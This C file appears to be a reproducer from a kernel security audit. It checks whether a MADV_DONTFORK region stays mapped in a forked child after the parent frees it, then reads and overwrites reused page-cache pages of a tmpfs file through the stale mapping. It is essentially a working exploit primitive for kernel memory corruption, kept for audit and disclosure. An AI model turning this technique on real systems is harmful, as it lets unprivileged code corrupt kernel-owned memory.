// SPDX-License-Identifier: GPL-2.0
// Reproducer from the guest-kernel audit (AUDIT.md beside it): open finding, not run by make check.
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

static sigjmp_buf jb;
static void segv(int s) { siglongjmp(jb, 1); }
static int probe(volatile unsigned char *p, unsigned char *out)
{
	if (sigsetjmp(jb, 1))
		return -1;
	*out = *p;
	return 0;
}

int main(int argc, char **argv)
{
	size_t n = 64 * 4096;
	int pfd[2], cfd[2];
	unsigned char c;
	char b;
	unsigned char *r = mmap(NULL, n, PROT_READ | PROT_WRITE,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	signal(SIGSEGV, segv);
	memset(r, 'A', n);
	if (madvise(r, n, MADV_DONTFORK)) { perror("madvise"); return 2; }
	pipe(pfd); pipe(cfd);
	pid_t pid = fork();
	if (pid == 0) {
		signal(SIGSEGV, segv);
		if (probe(r, &c)) { printf("child: DONTFORK region faults (closed)\n"); fflush(stdout); write(cfd[1], "x", 1); _exit(0); }
		printf("child: read parent's DONTFORK page without fault: '%c'\n", c); fflush(stdout);
		write(cfd[1], "1", 1);
		read(pfd[0], &b, 1);           /* parent wrote 'B' */
		probe(r, &c);
		printf("child: after parent wrote 'B': '%c' (shared physical page)\n", c); fflush(stdout);
		write(cfd[1], "2", 1);
		read(pfd[0], &b, 1);           /* parent munmapped */
		/* let the kernel reuse the freed pages */
		for (int i = 0; i < 200; i++) { int fd[2]; if (pipe(fd) == 0) { write(fd[1], "zzzz", 4); } }
		size_t diff = 0, pc = 0;
		for (size_t i = 0; i < n; i++) { if (probe(r + i, &c)) break; if (c != 'B') diff++; }
		for (size_t i = 0; i + 16 <= n; i += 16) if (!memcmp(r + i, "KERNELPAGECACHE!", 16)) pc++;
		printf("child: after parent munmap: %zu of %zu bytes changed; %zu 16-byte records of /tmp/pc page cache visible through the stale mapping\n", diff, n, pc);
		fflush(stdout);
		for (size_t i = 0; i + 16 <= n; i += 16) if (!memcmp(r + i, "KERNELPAGECACHE!", 16)) memcpy(r + i, "WRITTEN-BY-CHILD", 16);
		write(cfd[1], "3", 1);
		_exit(0);
	}
	read(cfd[0], &b, 1);
	if (b == 'x') { waitpid(pid, NULL, 0); return 0; }
	memset(r, 'B', n);
	write(pfd[1], "1", 1);
	read(cfd[0], &b, 1);
	munmap(r, n);
	/* allocate and free memory to churn the page allocator */
	{ /* page cache of a tmpfs file: kernel-owned pages */
		FILE *f = fopen("/tmp/pc", "w");
		for (size_t i = 0; i < 2 * n / 16; i++) fputs("KERNELPAGECACHE!", f);
		fclose(f);
	}
	write(pfd[1], "2", 1);
	read(cfd[0], &b, 1);
	waitpid(pid, NULL, 0);
	{
		char buf[17] = {0}; size_t w = 0; FILE *f = fopen("/tmp/pc", "r");
		while (fread(buf, 1, 16, f) == 16) if (!memcmp(buf, "WRITTEN-BY-CHILD", 16)) w++;
		printf("parent: /tmp/pc now holds %zu records written by the child through freed pages\n", w);
	}
	return 0;
}
